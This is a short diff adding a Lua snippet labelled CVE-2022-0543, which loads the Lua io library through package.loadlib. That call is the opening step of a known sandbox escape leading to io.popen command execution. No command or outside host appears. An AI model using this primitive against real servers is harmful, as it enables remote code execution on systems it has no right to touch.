@@ -1,0 +1,3 @@
+-- CVE-2022-0543: package.loadlib reaching io.popen
+local doc = ...
+package.loadlib("liblua5.4.so.0", "luaopen_io")
